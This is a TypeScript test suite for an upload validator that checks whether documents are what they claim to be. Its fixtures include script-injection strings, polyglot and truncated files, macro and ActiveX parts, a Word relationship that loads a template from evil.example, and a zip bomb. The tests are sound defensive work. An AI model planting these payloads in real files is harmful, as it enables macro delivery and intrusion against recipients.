import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { recogniseDocument } from './documents';
import { docmOf, docxOf, pdfOf, xlsxOf, zipOf } from './testing/documents';

const megabyte = 1024 * 1024;

describe('What may be attached is known by its content', () => {
  test.each([
    ['pdf', pdfOf('通知')],
    ['docx', docxOf('通知')],
    ['xlsx', xlsxOf('名单')],
  ])('%s', async (format, content) => expect(await recogniseDocument(content)).toEqual({ format }));

  test('A Word file with pictures and an equation in it is one', async () => {
    const parts = ['word/media/image1.png', 'word/embeddings/oleObject1.bin'].map((name) => ({ name, content: 'x' }));
    expect(await recogniseDocument(docxOf('通知', parts))).toEqual({ format: 'docx' });
  });
});

describe('What only calls itself so is not', () => {
  test.each([
    ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)])],
    ['a page', Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['a drawing that could run', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['a page before a PDF', Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), pdfOf('x')])],
    ['a PDF with a page behind it', Buffer.concat([pdfOf('x'), Buffer.from('<script>alert(1)</script>')])],
    ['a PDF that is a ZIP as well', Buffer.concat([pdfOf('x'), docxOf('x')])],
    ['a PDF cut short', pdfOf('x').subarray(0, 40)],
    ['a ZIP of anything', zipOf([{ name: 'program.exe', content: 'MZ' }])],
    ['a ZIP behind something else', Buffer.concat([Buffer.from('MZ'), docxOf('x')])],
    ['a Word file cut short', docxOf('x').subarray(0, -30)],
    ['a Word file with something behind it', Buffer.concat([docxOf('x'), Buffer.from('more')])],
    ['an old Word file', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
    ['nothing', Buffer.alloc(0)],
  ])('%s', async (_, content) =>
    expect(await recogniseDocument(content)).toEqual({ format: null, problem: 'unknown' }),
  );

  test('Whatever is sent is answered, and random bytes are no document', async () => {
    const starts = fc.constantFrom(Buffer.alloc(0), Buffer.from('PK\x03\x04'), Buffer.from('%PDF-1.4'));
    await fc.assert(
      fc.asyncProperty(starts, fc.uint8Array({ maxLength: 300 }), async (start, rest) => {
        expect((await recogniseDocument(Buffer.concat([start, rest]))).format).toBeNull();
      }),
      { numRuns: 500 },
    );
  });

  test('A Word file of which one byte was changed is answered', async () => {
    const whole = docxOf('通知');
    for (let at = 0; at < whole.length; at += 1) {
      const altered = Buffer.from(whole);
      altered.writeUInt8(altered.readUInt8(at) ^ 0xff, at);
      expect(['docx', null]).toContain((await recogniseDocument(altered)).format);
    }
  });
});

describe('What runs something when it is opened is refused', () => {
  test.each([
    ['a file of macros', docmOf()],
    ['hidden macros', docxOf('x', [{ name: 'word/vbaProject.bin', content: 'x' }])],
    ['controls', docxOf('x', [{ name: 'word/activeX/activeX1.xml', content: 'x' }])],
    ['old macro sheets', docxOf('x', [{ name: 'xl/macrosheets/sheet1.xml', content: 'x' }])],
    [
      'a template from elsewhere',
      docxOf('x', [
        {
          name: 'word/_rels/settings.xml.rels',
          content:
            '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
        },
      ]),
    ],
  ])('%s', async (_, content) => expect(await recogniseDocument(content)).toEqual({ format: null, problem: 'macros' }));
});

describe('A bomb does not go off', () => {
  const zeros = Buffer.alloc(10 * megabyte);
  const tooLarge = { format: null, problem: 'unpacks-too-large' };

  test('What unpacks to too much is refused, also when it claims to be small', async () => {
    for (const claims of [zeros.length, 10]) {
      const bomb = docxOf('x', [{ name: 'word/media/big.bmp', content: zeros, claims }]);
      expect(bomb.length).toBeLessThan(megabyte / 10);
      expect(await recogniseDocument(bomb, 10 * megabyte)).toEqual(tooLarge);
      expect(await recogniseDocument(bomb)).toEqual({ format: 'docx' });
    }
  });

  test('Many parts that are small by themselves are counted together', async () => {
    const part = zeros.subarray(0, megabyte);
    const parts = Array.from({ length: 11 }, (_, n) => ({ name: `word/media/${n}.bmp`, content: part }));
    expect(await recogniseDocument(docxOf('x', parts), 10 * megabyte)).toEqual(tooLarge);
  });
});
